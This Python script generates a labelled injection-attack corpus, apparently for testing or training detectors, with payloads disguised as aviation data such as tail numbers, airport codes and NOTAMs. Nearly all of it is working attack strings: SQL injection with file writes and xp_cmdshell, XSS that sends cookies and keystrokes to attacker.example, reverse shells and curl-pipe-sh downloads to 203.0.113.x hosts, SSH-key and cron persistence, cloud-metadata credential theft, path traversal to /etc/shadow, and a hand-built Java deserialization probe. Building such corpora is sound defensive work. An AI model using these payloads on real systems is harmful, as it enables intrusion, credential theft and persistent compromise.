"""Held-out ATTACK corpus: injection payloads hidden in aviation notations.

The target is an imagined vulnerable airline application (MRO tech log, flight-ops portal,
crew scheduling, passenger service) that puts each value exactly where its class says:
concatenated into SQL, a shell line, a file path, a fetched URL, a server-side template,
HTML without escaping, a response/mail header or log line, an LDAP filter or XPath query.

Every payload was written by hand for this corpus from an understanding of the technique;
nothing is copied from a payload list, dataset or vendor documentation. A few values are
encoded (URL, base64, HTML entities) by the small helpers below from hand-written text;
a few more come from small templates over hand-written pools. Attacker infrastructure is
limited to attacker.example, *.attacker.example, 203.0.113.0/24 and 198.51.100.0/24; all
secrets are fake placeholders.

class = "<context>-<technique>[+<encoding>]"; "plain-" classes carry no domain context.
Output: attacks.jsonl next to this file. Deterministic (fixed seed, no set ordering).
"""

import base64
import json
import random
from pathlib import Path
from urllib.parse import quote

SEED = 4902
PREFIX = "ha49"


def b64(s):
    return base64.b64encode(s.encode("utf-8")).decode("ascii")


def b64b(bs):
    return base64.b64encode(bs).decode("ascii")


def url1(s):
    """URL-encode every reserved character once (hand-written payload in, encoded out)."""
    return quote(s, safe="")


def url2(s):
    return quote(quote(s, safe=""), safe="")


def ents(s):
    """Decimal HTML entities for every character."""
    return "".join(f"&#{ord(c)};" for c in s)


def php_s(s):
    return f's:{len(s.encode("utf-8"))}:"{s}";'


def java_urldns(host):
    """Java serialization stream, written out field by field: HashMap{URL(http://host/) -> "x"}.

    The URL's cached hashCode is -1, so HashMap.readObject() re-hashes the key and the
    JDK resolves the host name: an out-of-band deserialization probe with no library gadget.
    """
    import struct

    def utf(t):
        b = t.encode("utf-8")
        return struct.pack(">H", len(b)) + b

    def tc_string(t):
        return b"\x74" + utf(t)

    out = b"\xac\xed\x00\x05"
    # HashMap class descriptor (handle 0x7e0000), object (0x7e0001)
    out += b"\x73\x72" + utf("java.util.HashMap") + struct.pack(">q", 362498820763181265) + b"\x03"
    out += struct.pack(">H", 2) + b"F" + utf("loadFactor") + b"I" + utf("threshold") + b"\x78\x70"
    out += struct.pack(">f", 0.75) + struct.pack(">i", 12)
    out += b"\x77\x08" + struct.pack(">ii", 16, 1)
    # key: java.net.URL descriptor (0x7e0002), "Ljava/lang/String;" (0x7e0003), object (0x7e0004)
    out += b"\x73\x72" + utf("java.net.URL") + struct.pack(">q", -7627629688361524110) + b"\x03"
    out += struct.pack(">H", 7)
    out += b"I" + utf("hashCode") + b"I" + utf("port")
    out += b"L" + utf("authority") + tc_string("Ljava/lang/String;")
    for name in ("file", "host", "protocol", "ref"):
        out += b"L" + utf(name) + b"\x71" + struct.pack(">i", 0x7E0003)
    out += b"\x78\x70"
    out += struct.pack(">ii", -1, -1)
    # authority (0x7e0005), file, host (same String object as authority -> back-reference)
    out += tc_string(host) + tc_string("/") + b"\x71" + struct.pack(">i", 0x7E0005) + tc_string("http") + b"\x70"
    out += b"\x78"
    # value
    out += tc_string("x")
    out += b"\x78"
    return out


# --------------------------------------------------------------------------------------
# sqli: tech-log search by tail, part search (LIKE), pairing id (numeric), sort column,
# logbook INSERT, date filters. Several DBMS dialects.
# --------------------------------------------------------------------------------------

SQLI = [
    ("string-tautology", "N512UA' OR '1'='1"),
    ("string-tautology", "N512UA' OR 1=1-- "),
    ("string-comment-truncation", "dispatcher01'-- "),
    ("string-union", "N512UA' UNION SELECT username, password_hash, NULL FROM crew_users-- -"),
    ("like-union", "3214552-5%' UNION ALL SELECT table_name,column_name,NULL,NULL FROM information_schema.columns-- "),
    ("string-time-blind", "KSFO'||(SELECT pg_sleep(6))||'"),
    ("string-time-blind", "N37263' AND SLEEP(5) AND 'x'='x"),
    ("string-time-blind", "UA123'; WAITFOR DELAY '0:0:7'--"),
    ("string-boolean-blind", "N512UA' AND SUBSTRING((SELECT password FROM users WHERE login='dom'),1,1)='a'-- "),
    ("string-error-based", "N8706Q' AND EXTRACTVALUE(1, CONCAT(0x7e, (SELECT @@version)))-- "),
    ("string-error-based", "MEL 34-11-01' AND UPDATEXML(1,CONCAT(0x2e,(SELECT user())),1)-- "),
    ("string-error-based", "ABC1234' AND 1=CAST((SELECT string_agg(usename,',') FROM pg_user) AS int)-- "),
    ("string-error-based", "822-1468-002' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.tables))-- "),
    ("string-stacked", "WO 883421'; EXEC master..xp_cmdshell 'ping -n 3 203.0.113.7'-- "),
    ("string-stacked", "KORD'; DROP TABLE crew_pairings; --"),
    ("string-stacked", "N904DL'; COPY (SELECT '') TO PROGRAM 'curl -s http://203.0.113.9/p|sh'; --"),
    ("numeric-tautology", "4127 OR 1=1"),
    ("numeric-union", "4127 UNION SELECT 1,login,pwd_hash,4 FROM scheduler_accounts"),
    ("numeric-boolean-blind", "4127 AND (SELECT COUNT(*) FROM crew_users)>100"),
    ("numeric-time-blind", "4127 AND IF(ASCII(SUBSTRING(DATABASE(),1,1))>109,SLEEP(4),0)"),
    ("numeric-stacked-time", "883421;SELECT CASE WHEN (current_user='postgres') THEN pg_sleep(5) ELSE pg_sleep(0) END--"),
    ("orderby-boolean-blind", "CASE WHEN (SELECT SUBSTR(password,1,1) FROM users WHERE id=1)='$' THEN tail ELSE eta END"),
    ("orderby-time-blind", "eta,(SELECT 1 FROM (SELECT SLEEP(5))x)"),
    ("orderby-error-based", "std_time, extractvalue(0x0a,concat(0x0a,(select database())))"),
    ("insert-subquery", "Replaced brake assy', (SELECT password FROM users LIMIT 1))-- "),
    ("insert-stacked", "ops ck good'); UPDATE users SET role='admin' WHERE login='mx_tech7';--"),
    ("string-union", "KJFK' UNION SELECT banner, NULL FROM v$version--"),
    ("string-oob-dns", "EGLL' AND 1=(SELECT UTL_INADDR.get_host_address((SELECT user FROM dual)||'.oob.attacker.example') FROM dual)--"),
    ("string-time-blind", "RJTT' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('x',6)--"),
    ("string-union", "VGML' UNION SELECT name, sql FROM sqlite_master--"),
    ("string-boolean-blind", "WCHR' AND (SELECT substr(sql,1,1) FROM sqlite_master LIMIT 1)='C'--"),
    ("string-union-outfile", "N512UA' UNION SELECT '<?php system($_GET[\"c\"]); ?>',2 INTO OUTFILE '/var/www/html/wx.php'-- "),
    ("string-union-file-read", "KDEN' UNION SELECT LOAD_FILE('/etc/passwd'),NULL-- "),
    ("string-oob-smb", "UA456'; DECLARE @h varchar(99), @p varchar(200); SET @h=(SELECT TOP 1 name FROM sys.databases)+'.oob.attacker.example'; SET @p='\\\\'+@h+'\\x'; EXEC master..xp_dirtree @p--"),
    ("string-oob-dblink", "KSEA'; SELECT dblink_connect('host=203.0.113.12 user='||current_user||' dbname=x')--"),
    ("string-tautology", 'N512UA" OR ""="'),
    ("string-stacked", "Mary O'Brien'); DELETE FROM duty_periods WHERE crew_id>0;--"),
    ("string-union", "X' UNION SELECT 0x61646d696e, 0x70617373-- "),
    ("string-union+versioned-comment", "N512UA'/*!50000UNION*//*!50000SELECT*/user,authentication_string FROM mysql.user-- "),
    ("string-union+comment-space", "KSFO'/**/UNION/**/SELECT/**/login,pwd/**/FROM/**/users--"),
    ("string-union+case", "n512ua' uNiOn SeLeCt NULL,passwd,NULL fRoM staff-- "),
    ("string-tautology+urlenc", url1("N512UA' OR '1'='1")),
    ("string-union+urlenc2", url2("KSFO' UNION SELECT username,password FROM users--")),
    ("string-tautology+unicode-escape", "N512UA\\u0027 OR \\u00271\\u0027=\\u00271"),
    ("string-tautology-no-space", "N512UA'or(1)=(1)#"),
    ("string-boolean-blind", "N5%' AND (SELECT password FROM users WHERE login='admin') LIKE 'a%'-- "),
    ("string-error-based", "N512UA' GROUP BY tail HAVING 1=1--"),
    ("numeric-stacked", "1742; SHUTDOWN WITH NOWAIT--"),
    ("string-union-file-read", "KORD' UNION SELECT pg_read_file('/etc/passwd'),NULL--"),
    ("numeric-union", "34 AND 1=2 UNION SELECT NULL,NULL,current_setting('data_directory')--"),
    ("string-time-blind", "N37263' AND 1=randomblob(300000000)--"),
    ("string-time-blind", "P/N 3214552-5' AND BENCHMARK(40000000,SHA1('x'))-- "),
    ("string-boolean-blind", "N8706Q' AND IF(LENGTH(DATABASE())=6,1,0)-- "),
    ("limit-error-based", "10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)"),
    ("insert-stacked", "RMK AO2 SLP152'); INSERT INTO admins(login,pw) VALUES('wx','x');--"),
    ("string-boolean-blind", "34-11-01' AND 1=(SELECT COUNT(*) FROM pg_shadow)-- "),
    ("string-union", "WCHR' UNION SELECT pnr_locator,card_number,NULL FROM payments-- "),
    ("string-boolean-blind", "E41771' OR EXISTS(SELECT 1 FROM users WHERE role='admin')-- "),
    ("string-tautology+html-entity", "N512UA&#39; OR &#39;1&#39;=&#39;1"),
    ("string-tautology+fullwidth", "N512UA\uff07 OR 1=1--"),
    ("string-stacked", "KIAH'; EXEC sp_addsrvrolemember 'dispatch_ro','sysadmin';--"),
    ("numeric-union", "5510 UNION SELECT NULL,version(),NULL"),
    ("like-tautology", "%' OR '%'='"),
    ("string-boolean-blind", "N14120' AND (SELECT COUNT(*) FROM information_schema.tables WHERE table_name='crew_users')=1-- "),
    ("date-time-blind", "2024-03-12' AND 1=(SELECT 1 FROM pg_sleep(5))--"),
    ("string-boolean-blind", "LFPG' AND (SELECT LENGTH(password) FROM dba_users WHERE username='SYS')>10--"),
    ("string-load-extension", "N512UA' AND load_extension('/tmp/x.so')--"),
    ("string-oob-openrowset", "UA1742'; SELECT * FROM OPENROWSET('SQLOLEDB','server=203.0.113.5;uid=sa;pwd=x','select 1')--"),
    ("plain-tautology", "' OR 1=1--"),
    ("plain-union", "1' UNION SELECT NULL,NULL,NULL--"),
    ("plain-stacked", "'; DROP TABLE users;--"),
    ("plain-time-blind", "1 AND SLEEP(5)"),
    ("plain-comment-truncation", "admin' #"),
    ("plain-tautology", "1 OR 1=1"),
    ("plain-union", "' UNION SELECT username, password FROM users--"),
    ("plain-stacked-time", "1; WAITFOR DELAY '0:0:5'--"),
]

SQLI_PREFIX = ["N512UA", "N771AN", "C-FKWS", "D-AIZB", "3214552-5", "KSFO", "EGLL", "MEL 21-51-01", "UA2208", "S/N HJK0042"]
SQLI_TABLES = [("crew_users", "pwd_hash"), ("mro_accounts", "password"), ("pax_pnr", "passport_no"), ("api_keys", "secret")]


def tpl_sqli(rng):
    pre = rng.choice(SQLI_PREFIX)
    table, col = rng.choice(SQLI_TABLES)
    pos = rng.randint(1, 16)
    n = rng.randint(48, 122)
    shape = rng.randrange(3)
    if shape == 0:
        return "string-boolean-blind", f"{pre}' AND ASCII(SUBSTRING((SELECT {col} FROM {table} LIMIT 1),{pos},1))>{n}-- "
    if shape == 1:
        return "string-time-blind", f"{pre}' AND (SELECT CASE WHEN (SUBSTR({col},{pos},1)='{chr(n)}') THEN pg_sleep(4) ELSE pg_sleep(0) END FROM {table} LIMIT 1) IS NULL--"
    return "string-union", f"{pre}' UNION SELECT {', '.join(['NULL'] * (pos % 4))}{', ' if pos % 4 else ''}{col} FROM {table}-- "


# --------------------------------------------------------------------------------------
# xss: tech-log entries, NOTAM/PIREP text, SSR remarks rendered without escaping;
# attribute values, inline JS strings, link fields, markdown, client-side templates.
# --------------------------------------------------------------------------------------

XSS = [
    ("html-script-exfil", "Ops check good <script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("html-img-onerror", "N512UA <img src=x onerror=alert(document.domain)>"),
    ("html-svg-onload", "<svg onload=alert(1)> WCHR"),
    ("attr-breakout-event", 'N512UA" onmouseover="alert(document.cookie)" x="'),
    ("attr-breakout-autofocus", "KSFO' autofocus onfocus='fetch(`//attacker.example/k?c=${document.cookie}`)"),
    ("html-iframe-javascript", '<iframe src="javascript:alert(origin)"></iframe>'),
    ("url-javascript-uri", "javascript:alert(document.cookie)"),
    ("url-javascript-uri+html-entity", "jav&#x09;ascript:alert(1)"),
    ("js-string-breakout", "KSFO';alert(document.domain);//"),
    ("js-string-breakout", "N512UA\";fetch('//attacker.example/'+localStorage.getItem('token'));//"),
    ("js-block-script-close", "</script><script>alert(1)</script>"),
    ("html-details-ontoggle", "<details open ontoggle=alert(1)>MEL 34-11-01</details>"),
    ("html-input-autofocus", "<input autofocus onfocus=alert(1)>"),
    ("html-video-source-onerror", '<video><source onerror="alert(1)"></video>'),
    ("html-anchor-javascript", "<a href=\"javascript:fetch('//attacker.example/'+document.cookie)\">NOTAM A1234/24</a>"),
    ("html-mutation", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("html-svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("html-svg-xlink-javascript", '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>ATIS</text></a></svg>'),
    ("html-object-data-uri-base64", f'<object data="data:text/html;base64,{b64("<script>alert(document.domain)</script>")}"></object>'),
    ("html-meta-refresh", '<meta http-equiv="refresh" content="0;url=https://attacker.example/login">'),
    ("html-form-injection", "<form action=https://attacker.example/steal><input name=pw placeholder='Re-enter EFB passwd'><button>OK</button></form>"),
    ("html-style-import", "<style>@import 'https://attacker.example/x.css';</style>"),
    ("html-base-href", '<base href="https://attacker.example/">'),
    ("template-angular-csti", "{{constructor.constructor('alert(1)')()}}"),
    ("template-vue-csti", "{{_c.constructor('alert(document.domain)')()}}"),
    ("markdown-javascript-link", "[METAR KSFO](javascript:alert(document.cookie))"),
    ("markdown-image-attr-breakout", '![wx](x" onerror="alert(1))'),
    ("js-string-innerhtml+unicode-escape", "\\u003cimg src=x onerror=alert(1)\\u003e"),
    ("html-script+urlenc", url1("<script>alert(document.domain)</script>")),
    ("html-svg-onload+urlenc2", url2("<svg onload=alert(1)>")),
    ("html-img-onerror+html-entity", f"<img src=x onerror={ents('alert(1)')}>"),
    ("html-script+case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("html-img-onerror-backtick", "<img src=x onerror=alert`1`>"),
    ("html-svg-onerror-throw", "<svg onload=\"window.onerror=eval;throw'=alert\\x281\\x29'\">"),
    ("html-iframe-data-uri", "<iframe src=data:text/html,<script>alert(1)</script>>"),
    ("html-iframe-srcdoc+html-entity", '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>'),
    ("textarea-breakout", "</textarea><img src=x onerror=alert(1)>"),
    ("title-breakout", "</title><script>alert(1)</script>"),
    ("comment-breakout", "--><img src=x onerror=alert(1)>"),
    ("attr-breakout-style", 'x" style="position:fixed;inset:0" onmouseover="alert(1)'),
    ("html-img-keylogger", "<img src=x onerror=\"document.onkeypress=e=>fetch('//attacker.example/k?'+e.key)\">"),
    ("html-svg-cookie-image", "<svg/onload=new Image().src='//attacker.example/c?'+document.cookie>"),
    ("html-img-dynamic-import", "<img src=x onerror=import('//attacker.example/m.js')>"),
    ("html-img-eval-atob+base64", f"<img src=x onerror=eval(atob('{b64('alert(document.domain)')}'))>"),
    ("html-img-jquery-getscript", "<img src=x onerror=$.getScript('//attacker.example/j.js')>"),
    ("html-body-onpageshow", "<body onpageshow=setTimeout('al'+'ert(1)')>"),
    ("svg-upload-script", '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>'),
    ("html-marquee-onstart", "<marquee onstart=alert(1)>DELAY 45 MIN</marquee>"),
    ("html-button-formaction", "<form><button formaction=javascript:alert(1)>Submit deferral</button></form>"),
    ("html-contenteditable-onfocus", "<div contenteditable autofocus onfocus=alert(1)>notes</div>"),
    ("html-script-src", "E) RWY 09L/27R CLSD <script src=//attacker.example/n.js></script>"),
    ("html-svg-onload", "UA /OV SFO270015/TM 1805/RM <svg onload=alert(1)>"),
    ("js-block-script-close", "N512UA</script><img src=x onerror=alert(1)>"),
    ("js-template-literal", "${alert(document.domain)}"),
    ("js-string-backslash-breakout", "\\';alert(1)//"),
    ("attr-unquoted-event", "N512UA onmouseover=alert(1)"),
    ("url-data-uri-base64", f"data:text/html;base64,{b64('<script>alert(document.domain)</script>')}"),
    ("html-dom-clobbering", "<form id=config><input name=apiBase value=https://attacker.example></form>"),
    ("html-svg-foreignobject", "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>"),
    ("html-noscript-mutation", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
    ("html-img-bracket-call", "<img src=1 onerror=\"top['al'+'ert'](1)\">"),
    ("html-svg-script+html-entity", "<svg><script>alert&#40;1&#41;</script></svg>"),
    ("html-anchor-javascript+html-entity", '<a href="&#106;avascript:alert(1)">MEL</a>'),
    ("html-img-unclosed", "<img src=x:x onerror=alert(1)//"),
    ("html-select-autofocus", "<select autofocus onfocus=alert(1)>"),
    ("html-custom-tag-pointer", "<xss onpointerenter=alert(1) style=display:block>hover for ETA</xss>"),
    ("html-svg-animate-href", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>SIGMET</text></a></svg>"),
    ("plain-script", "<script>alert(1)</script>"),
    ("plain-img-onerror", "<img src=x onerror=alert(1)>"),
    ("plain-attr-breakout", '"><svg onload=alert(1)>'),
    ("plain-javascript-uri", "javascript:alert(1)"),
    ("plain-svg-onload", "<svg/onload=alert(document.domain)>"),
    ("plain-body-onload", "<body onload=alert(1)>"),
    ("plain-js-string-breakout", "'-alert(1)-'"),
]

XSS_PREFIX = ["MX log:", "NOTAM !SFO 03/021", "PIREP /RM", "SSR OTHS", "Deferral note:", "IRROPS:", "Crew msg:", "Safety report:"]
XSS_VECTORS = [
    ("img-onerror", "<img src=x onerror={js}>"),
    ("svg-onload", "<svg onload={js}>"),
    ("details-ontoggle", "<details open ontoggle={js}>"),
    ("input-onfocus", "<input autofocus onfocus={js}>"),
    ("body-onload", "<body onload={js}>"),
]
XSS_SINKS = ["alert(document.domain)", "print()", "fetch('//attacker.example/'+document.cookie)",
             "location='//attacker.example/?'+document.cookie", "confirm(origin)"]


def tpl_xss(rng):
    pre = rng.choice(XSS_PREFIX)
    name, vec = rng.choice(XSS_VECTORS)
    js = rng.choice(XSS_SINKS)
    if " " in js or "'" in js:
        vec = vec.replace("={js}", '="{js}"')
    return f"html-{name}", f"{pre} {vec.format(js=js)}"


# --------------------------------------------------------------------------------------
# cmdi: station ids, tails and file names passed to shell helpers (metar fetch, label
# printing, QAR unzip, ping of ACARS gateways), unquoted, quoted, Windows, PowerShell.
# --------------------------------------------------------------------------------------

CMDI = [
    ("arg-semicolon", "3214552-5; cat /etc/passwd"),
    ("arg-and", "KSFO && id"),
    ("arg-or", "N512UA || uname -a"),
    ("arg-pipe-netcat", "KDEN | nc 203.0.113.7 4444 -e /bin/sh"),
    ("arg-subshell", "$(curl -s http://attacker.example/x.sh | sh)"),
    ("arg-backtick", "`wget -qO- http://198.51.100.23/a|bash`"),
    ("arg-newline", "KORD\nid"),
    ("dq-subshell", "N512UA $(id > /tmp/.x)"),
    ("sq-breakout", "KSFO'; curl http://attacker.example/$(whoami); echo '"),
    ("dq-breakout", 'EGLL"; rm -rf /var/mro/cache; echo "'),
    ("arg-semicolon-ifs", "KSFO;cat${IFS}/etc/shadow"),
    ("arg-semicolon-brace-expansion", "KSFO;{cat,/etc/passwd}"),
    ("arg-redirect-overwrite", "N512UA > /var/www/html/index.html"),
    ("option-injection-wget", "-O /var/www/html/sh.php http://attacker.example/sh.txt"),
    ("option-injection-tar", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh"),
    ("option-injection-find", "-exec sh -c 'curl attacker.example/f|sh' ;"),
    ("win-arg-ampersand", "N512UA & type C:\\Windows\\win.ini"),
    ("win-arg-pipe-powershell", 'KSFO | powershell -nop -c "iwr http://203.0.113.8/a.ps1 | iex"'),
    ("powershell-subexpression", "$(Invoke-WebRequest -Uri http://attacker.example/p -Method POST -Body (Get-Content C:\\ops\\config.ini))"),
    ("powershell-sq-breakout", "KJFK'; Start-Process calc; '"),
    ("arg-semicolon-reverse-shell", "KSEA; bash -c 'bash -i >& /dev/tcp/203.0.113.50/9001 0>&1'"),
    ("arg-semicolon-python-shell", "N37263; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.4\",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("arg-semicolon-time", "KSFO; sleep 10"),
    ("arg-semicolon-dns-oob", "KBOS;nslookup $(whoami).oob.attacker.example"),
    ("arg-semicolon+base64", f"KSFO;echo {b64('curl -s http://attacker.example/x|sh')}|base64 -d|sh"),
    ("arg-subshell+printf-hex", "KSFO;$(printf '\\x69\\x64')"),
    ("arg-semicolon-glob", "KSFO;/???/c?t /e??/p?ss??"),
    ("arg-semicolon-quote-split", "KSFO;c'a't /et'c'/pas's'wd"),
    ("arg-semicolon-variable-concat", "KSFO;a=ca;b=t;$a$b /etc/passwd"),
    ("arg-semicolon+urlenc", url1("KSFO;id")),
    ("arg-newline+urlenc", url1("N512UA\nid")),
    ("arg-semicolon+urlenc2", url2("KSFO;cat /etc/passwd")),
    ("arg-semicolon-tab-separator", "KSFO;cat\t/etc/passwd"),
    ("arg-semicolon-ssh-key", "KDEN; echo 'ssh-ed25519 AAAAC3NzaFAKEFAKEFAKE attacker' >> ~/.ssh/authorized_keys"),
    ("arg-semicolon-cron", "N904DL; (crontab -l; echo '* * * * * curl -s http://attacker.example/b|sh') | crontab -"),
    ("arg-semicolon-env-exfil", "KLAX; env | curl -X POST --data-binary @- http://attacker.example/e"),
    ("arg-and-file-exfil", "KLAX && curl -F f=@/etc/mro/db.conf http://198.51.100.77/u"),
    ("filename-semicolon", "scan_0412.pdf; id #"),
    ("filename-subshell", "label$(id).pdf"),
    ("filename-backtick", "QAR_N37263_`curl attacker.example/q|sh`.zip"),
    ("arg-semicolon-awk", "KSFO; awk 'BEGIN{system(\"id\")}'"),
    ("arg-newline-dropper", "N512UA\ncurl http://attacker.example/x -o /tmp/x && chmod +x /tmp/x && /tmp/x\n#"),
    ("win-arg-ampersand-adduser", "KSFO & net user backdoor Fake-Pass-123 /add & net localgroup administrators backdoor /add"),
    ("win-arg-ampersand-certutil", "N512UA & certutil -urlcache -split -f http://203.0.113.66/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe"),
    ("win-arg-pipe-type", "KSFO | type %SystemRoot%\\system32\\drivers\\etc\\hosts"),
    ("arg-backtick", "KSFO`id`"),
    ("arg-subshell-time-ifs", "$(sleep${IFS}8)"),
    ("arg-semicolon-herestring", "KSFO;sh<<<id"),
    ("arg-semicolon-busybox", "KSFO;busybox nc 203.0.113.14 4444 -e sh"),
    ("arg-semicolon-php-shell", "KSFO;php -r '$s=fsockopen(\"198.51.100.9\",4444);exec(\"sh <&3 >&3 2>&3\");'"),
    ("arg-semicolon-openssl-shell", "N512UA;openssl s_client -quiet -connect 203.0.113.3:443|sh|openssl s_client -quiet -connect 203.0.113.3:444"),
    ("arg-semicolon-wget-post", "KSFO;wget --post-file=/etc/passwd http://attacker.example/"),
    ("arg-semicolon-fifo-shell", "KSFO;rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 198.51.100.30 9001 >/tmp/f"),
    ("sq-breakout-subshell", "'$(id)'"),
    ("dq-backtick", "KSFO `cat /etc/hostname`"),
    ("arg-semicolon+ansi-c-hex", "KSFO;$'\\x63\\x61\\x74' /etc/passwd"),
    ("arg-semicolon-param-expansion", "KSFO;cat ${HOME:0:1}etc${HOME:0:1}passwd"),
    ("arg-semicolon-reversed-string", "KSFO;rev<<<'dwssap/cte/ tac'|sh"),
    ("arg-semicolon+hex", f"KSFO;echo {'id'.encode().hex()}|xxd -r -p|sh"),
    ("dq-breakout-and", 'N512UA" && curl attacker.example/`whoami` #'),
    ("arg-semicolon-process-substitution", "KSFO; bash <(curl -s http://attacker.example/i)"),
    ("arg-semicolon-devtcp-exfil", "KSFO;ls -la /home/ > /dev/tcp/203.0.113.50/80"),
    ("arg-semicolon-beacon-loop", "KSFO;nohup sh -c 'while :; do curl -s http://attacker.example/c|sh; sleep 60; done' &"),
    ("arg-semicolon-scp-exfil", "WCHR;scp /var/lib/pnr/*.csv x@203.0.113.11:/d"),
    ("arg-semicolon-metadata-chain", "KSFO;curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/ | curl -d @- http://attacker.example/m"),
    ("plain-semicolon", "; id"),
    ("plain-pipe", "| whoami"),
    ("plain-and", "&& cat /etc/passwd"),
    ("plain-subshell", "$(id)"),
    ("plain-backtick", "`uname -a`"),
    ("plain-or", "|| id"),
    ("plain-semicolon-time", "; sleep 5"),
]

CMDI_PREFIX = ["KSFO", "KORD", "EGLL", "N512UA", "N8706Q", "3214552-5", "loadsheet_UA123.pdf", "QAR_N37263.zip"]
CMDI_SEPS = [";", " ;", "&&", " && ", "|", " || ", "\n", "%0a"]
CMDI_CMDS = ["id", "cat /etc/passwd", "uname -a", "curl -s http://attacker.example/s|sh",
             "wget -qO- http://203.0.113.21/s|sh", "sleep 9", "nc 198.51.100.8 4444 -e /bin/sh"]


def tpl_cmdi(rng):
    pre = rng.choice(CMDI_PREFIX)
    sep = rng.choice(CMDI_SEPS)
    cmd = rng.choice(CMDI_CMDS)
    if sep == "%0a":
        return "arg-newline+urlenc", f"{pre}{sep}{url1(cmd)}"
    tech = {";": "semicolon", "&": "and", "|": "pipe", "\n": "newline"}[sep.strip()[0] if sep.strip() else "\n"]
    if sep.strip() == "||":
        tech = "or"
    return f"arg-{tech}", f"{pre}{sep}{cmd}"


# --------------------------------------------------------------------------------------
# traversal: attachment names, manual/chart paths, QAR download keys, zip entries, includes
# --------------------------------------------------------------------------------------

TRAVERSAL = [
    ("file-param-dotdot", "../../../../etc/passwd"),
    ("file-param-dotdot", "manuals/../../../../etc/shadow"),
    ("file-param-dotdot+urlenc", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("file-param-dotdot+urlenc2", "..%252f..%252f..%252fetc%252fpasswd"),
    ("file-param-dotdot+urlenc", "%2e%2e/%2e%2e/%2e%2e/etc/hosts"),
    ("file-param-backslash", "..\\..\\..\\..\\windows\\win.ini"),
    ("file-param-backslash+urlenc", "..%5c..%5c..%5cwindows%5cwin.ini"),
    ("file-param-strip-bypass", "....//....//....//etc/passwd"),
    ("file-param-path-parameter", "..;/..;/WEB-INF/web.xml"),
    ("file-param-absolute", "/etc/passwd"),
    ("file-param-absolute-windows", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("include-php-filter", "php://filter/convert.base64-encode/resource=../config.php"),
    ("file-param-dotdot+overlong-utf8", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("file-param-dotdot+overlong-utf8", "..%e0%80%af..%e0%80%afetc/passwd"),
    ("file-param-dotdot+overlong-utf8", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("file-param-backslash+iis-unicode", "..%u2216..%u2216windows%u2216win.ini"),
    ("file-param-dotdot-nullbyte", "../../../../etc/passwd%00.pdf"),
    ("file-param-dotdot-proc", "charts/KSFO/../../../../proc/self/environ"),
    ("file-param-absolute-proc", "/proc/self/cmdline"),
    ("file-param-dotdot-log", "../../../../var/log/nginx/access.log"),
    ("file-param-dotdot-dotenv", "../../.env"),
    ("file-param-dotdot-sshkey", "../../../../home/mro/.ssh/id_rsa"),
    ("file-param-dotdot-config", "../../config/database.yml"),
    ("file-param-backslash-webconfig", "..\\..\\..\\inetpub\\wwwroot\\web.config"),
    ("zip-entry-slip", "../../../../var/www/html/shell.php"),
    ("upload-name-overwrite", "../../static/js/app.js"),
    ("file-param-dotdot", "N512UA/2024-03/../../../../../etc/passwd"),
    ("file-param-dotdot+urlenc", "QAR/N37263/..%2F..%2F..%2F..%2Fetc%2Fpasswd"),
    ("file-param-prefix-bypass", "/var/mro/docs/../../../etc/shadow"),
    ("file-param-strip-bypass-backslash", "....\\\\....\\\\windows\\\\win.ini"),
    ("file-param-strip-bypass", "..././..././..././etc/passwd"),
    ("file-param-dotdot-php-config", "../../../../usr/local/etc/php/php.ini"),
    ("file-param-dotdot+urlenc2", "%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("file-param-leading-slash+urlenc", "/..%2f..%2f..%2fetc/passwd"),
    ("file-param-double-slash", "..//..//..//etc//passwd"),
    ("file-param-mixed-separators", "..\\/..\\/..\\/etc/passwd"),
    ("file-param-mixed-separators", "docs/NOTAM/..\\..\\..\\..\\appsettings.json"),
    ("file-param-dotdot+overlong-utf8", "%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd"),
    ("file-param-dotdot-deep", "../../../../../../../../../../../../etc/hostname"),
    ("file-param-dotdot-webinf", "../../WEB-INF/classes/application.properties"),
    ("file-param-dotdot-pgpass", "../../../var/lib/postgresql/.pgpass"),
    ("file-param-backslash", "..\\..\\..\\ProgramData\\MRO\\secrets.json"),
    ("file-param-backslash+urlenc", "%2e%2e%5c%2e%2e%5c%2e%2e%5cwindows%5csystem32%5cconfig%5csam"),
    ("plain-dotdot", "../../../etc/passwd"),
    ("plain-dotdot-windows", "..\\..\\..\\boot.ini"),
    ("plain-dotdot-proc", "../../../../proc/self/environ"),
    ("plain-strip-bypass", "....//....//etc/passwd"),
    ("plain-absolute", "/etc/shadow"),
]

TRAV_DIRS = ["manuals/AMM/", "charts/KSFO/", "QAR/N512UA/", "attachments/WO-883421/", "loadsheets/2024/03/", ""]
TRAV_TARGETS = ["etc/passwd", "etc/shadow", "proc/self/environ", "root/.ssh/id_rsa", "opt/mro/app/.env", "etc/nginx/nginx.conf"]


def tpl_traversal(rng):
    d = rng.choice(TRAV_DIRS)
    depth = rng.randint(3, 9)
    t = rng.choice(TRAV_TARGETS)
    return "file-param-dotdot", f"{d}{'../' * depth}{t}"


# --------------------------------------------------------------------------------------
